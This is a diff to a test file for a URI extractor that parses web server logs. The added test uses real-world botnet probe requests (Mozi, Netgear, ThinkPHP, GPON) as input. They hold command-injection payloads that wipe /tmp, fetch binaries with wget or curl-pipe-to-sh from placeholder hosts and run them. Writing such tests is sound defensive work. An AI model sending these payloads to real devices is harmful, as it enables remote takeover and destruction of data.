@@ -3504,6 +3504,44 @@ describe("found by session 16's log hunt", () => {
     ]);
   });
 
+  test("a command's argument in a query ends at its encoded space or the shell's separator; a query pair's value at the next '&name=' (session 37)", () => {
+    // the requests of botnets as every public web server logs them (Mozi, Netgear, ThinkPHP, GPON)
+    const probes =
+      '"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.14:8088/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1"\n' +
+      '"GET /setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.12:40222/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/ HTTP/1.0"\n' +
+      '"GET /index.php?vars[1][]=cd%20/tmp;wget%20http://192.0.2.11/bins/x86;chmod%20777%20x86;./x86%20thinkphp HTTP/1.1"\n' +
+      "dest_host=`busybox+wget+http://192.0.2.7/gpon+-O+/tmp/gpon`;sh+/tmp/gpon\n" +
+      "curl+-s+https://a.example/x.sh|sh and wget+http://a.example/y&&sh+y\n";
+    expect(uris(probes)).toEqual([
+      "http://192.0.2.14:8088/Mozi.a",
+      "http://192.0.2.12:40222/Mozi.m",
+      "http://192.0.2.11/bins/x86",
+      "http://192.0.2.7/gpon",
+      "https://a.example/x.sh",
+      "http://a.example/y",
+    ]);
+    expectRecordsAtEverySplit(probes);
+    // form encoding splits a query on "&" (WHATWG URL §5.1): a URI that is a pair's value, and
+    // holds no "?" of its own, ends before the next pair's "&name="
+    const pairs =
+      '"GET /oauth2/authorize?client_id=web&redirect_uri=https://app.example.com/callback&scope=openid%20profile&state=af0 HTTP/1.1"\n' +
+      '"GET /wp-login.php?redirect_to=https://blog.example.com/wp-admin/&reauth=1 HTTP/1.1"\n' +
+      '"GET /search?q=http://x.example/a&next=https://y.example/b HTTP/1.1"\n' +
+      '"GET /r?url=https://x.example/?a=1&b=2 HTTP/1.1" /r?u=https://x.example/a&amp;b=1\n' +
+      "see https://example.com/a&b=1 and https://example.com/x?u=https://y.example/p&q=2\n";
+    expect(uris(pairs)).toEqual([
+      "https://app.example.com/callback",
+      "https://blog.example.com/wp-admin/",
+      "http://x.example/a",
+      "https://y.example/b",
+      "https://x.example/?a=1&b=2",
+      "https://x.example/a",
+      "https://example.com/a&b=1",
+      "https://example.com/x?u=https://y.example/p&q=2",
+    ]);
+    expectRecordsAtEverySplit(pairs);
+  });
+
   test("words joined by + before http: a command line in a query, not a scheme", () => {
     expect(
       uris(
@@ -3511,7 +3549,7 @@ describe("found by session 16's log hunt", () => {
           "curl+-O+http://192.0.2.66/x.sh busybox+wget+https://a.example/bins/mirai.arm7\n",
       ),
     ).toEqual([
-      "http://192.0.2.66/jaws;sh+/tmp/jaws",
+      "http://192.0.2.66/jaws",
       "http://192.0.2.66/x.sh",
       "https://a.example/bins/mirai.arm7",
     ]);
